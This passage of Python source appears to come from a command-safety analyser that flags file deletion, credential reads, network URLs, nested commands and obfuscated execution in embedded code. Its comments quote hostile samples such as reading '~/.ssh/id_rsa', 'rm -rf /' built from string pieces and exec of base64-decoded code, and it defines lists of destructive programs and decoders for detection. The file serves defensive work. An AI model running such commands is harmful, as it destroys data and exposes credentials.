    js = {"deno": "node", "bun": "node"}.get(fam or "", fam)  # (JavaScript's file library)
    code = unalias(js, code) if js is not None else code  # (import shutil as s; s.rmtree)
    for path, op in code_writes(js, code) if js is not None else ():
        w.file(path, prog, op)
    for url in code_urls(code) if fam is not None else ():
        w.net("url", url, prog)
    for path in code_paths(code) if fam is not None else ():  # (open('~/.ssh/id_rsa'))
        w.file(path, prog, "read")
    for path, op in pwsh_files(code) if fam == "pwsh" else ():  # (Remove-Item -Recurse P)
        w.file(path, prog, op)
    for line in pwsh_lines(code) if fam == "pwsh" else ():  # (Start-Process rm -Arg...)
        w.nested(line)
    for name, words in pwsh_commands(code, WINDOWS_PROGRAMS) if fam == "pwsh" else ():
        w.nested(shlex.join([name, *words]))  # (Stop-Service X: as the parser reads it bare)
    if fam == "pwsh" and pwsh_computed_call(code):  # (& ('Remove'+'-Item') -Recurse P)
        w.opaque(f"{prog} calls a command whose name is computed at run time")
    if js is not None:  # (os.symlink('.git/hooks', 'h'), os.link(SRC, DST))
        shell_links.record(w, prog, (), shell_links.code_links(js, code))
    for line in literal_lines(js, code) if js is not None else ():  # (os.execute('L'))
        w.nested(line)
    why = computed_run(js, code) if js is not None else None
    if why is not None:  # (os.system('r' + 'm -rf /'), exec(b64decode(B64)))
        w.opaque(f"{prog}: {why}")


#: the programs some rule reads, for a program word given as a glob pattern (``/???/r?``)
KNOWN_PROGRAMS: frozenset[str] = frozenset(
    {*_DELETERS, *SHELLS, *NETWORK_PROGRAMS, *SQL_CLIENTS, *SQL_FILE_CLIENTS,
     "find", "dd", "chmod", "chown", "chgrp", "mkfs", "wipefs", "truncate", "tee", "mv", "cp",
     "sed", "eval", "xargs", "sudo", "doas", "env", "python", "python3", "perl", "ruby", "node",
     "php", "rimraf", "kubectl", "terraform", "helm", "npm", "docker"}
)  # fmt: skip


#: programs that decode or transform text: what they write to a pipe no rule can read
DECODERS = frozenset(
    {"base64", "base32", "basenc", "xxd", "od", "rev", "tr", "openssl", "gpg", "gzip",
     "gunzip", "zcat", "bzip2", "bunzip2", "xz", "unxz", "zstd", "uudecode", "iconv", "perl",
     "python", "python3", "ruby", "node", "awk", "sed", "printf"}
)  # fmt: skip
